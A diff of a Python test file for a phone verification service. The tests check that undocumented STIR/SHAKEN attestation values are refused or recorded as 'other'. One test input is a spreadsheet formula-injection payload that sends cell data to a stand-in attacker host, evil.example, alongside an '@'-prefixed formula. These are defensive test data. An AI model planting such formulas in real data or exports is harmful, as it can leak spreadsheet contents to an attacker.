@@ -33,7 +33,7 @@ def strict(make_app):
 
 @pytest.mark.parametrize(
     "verstat",
-    ["TN-Validation-Passed-B", "TN-Validation-Passed-C", "TN-Validation-Failed-A", "No-TN-Validation", "tn-validation-passed-a", None],
+    ["TN-Validation-Passed-B", "TN-Validation-Passed-C", "TN-Validation-Failed-A", "No-TN-Validation", "TN-Validation-Failed", None],
 )
 def test_require_a_sends_no_code_to_a_call_without_a_attestation(strict, call, verify, records, verstat):
     caller = call(target=strict, params={"StirVerstat": verstat} if verstat else {})
@@ -60,15 +60,28 @@ def test_an_unattested_call_is_not_counted_towards_a_lockout(strict, call, verif
     assert caller.heard("we have just sent a text message")
 
 
+def test_require_a_refuses_a_value_twilio_does_not_document(strict, call, verify, records):
+    caller = call(target=strict, params={"StirVerstat": "tn-validation-passed-a"})
+    assert caller.heard("we cannot confirm that this call comes from the number it shows")
+    assert sends(verify) == []
+    assert records()[0]["stir_verstat"] == "other"
+
+
 def test_the_agent_hears_that_the_carrier_did_not_vouch(make_app, call):
     caller = call(target=make_app(STIR_POLICY="require-a", FAILURE_NEXT_STEP="+14155550123"))
     assert caller.agent_heard == ["Caller not verified: the carrier did not vouch for their caller ID."]
 
 
-def test_an_unknown_value_is_recorded_as_it_came_within_the_columns_length(call, records):
-    odd = "TN-Validation-Maybe-" + "Z" * 100
-    call(params={"StirVerstat": odd}).press("")
-    assert records()[0]["stir_verstat"] == odd[:64]
+@pytest.mark.parametrize(
+    "odd",
+    ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "TN-Validation-Maybe-" + "Z" * 100, "tn-validation-passed-a", "@SUM(1+1)"],
+    ids=["formula", "unknown-and-long", "lower-case", "at-sign"],
+)
+def test_a_value_twilio_does_not_document_is_recorded_and_handed_on_as_other(make_app, call, records, odd):
+    caller = call(target=make_app(SUCCESS_NEXT_STEP=SIP), params={"StirVerstat": odd})
+    caller.press(caller.last_code)
+    assert sip_headers(caller)["X-Verification-Attestation"] == "other"
+    assert records()[0]["stir_verstat"] == "other"
 
 
 def test_the_attestation_travels_from_voice_in_the_call_state(make_app, call, records):
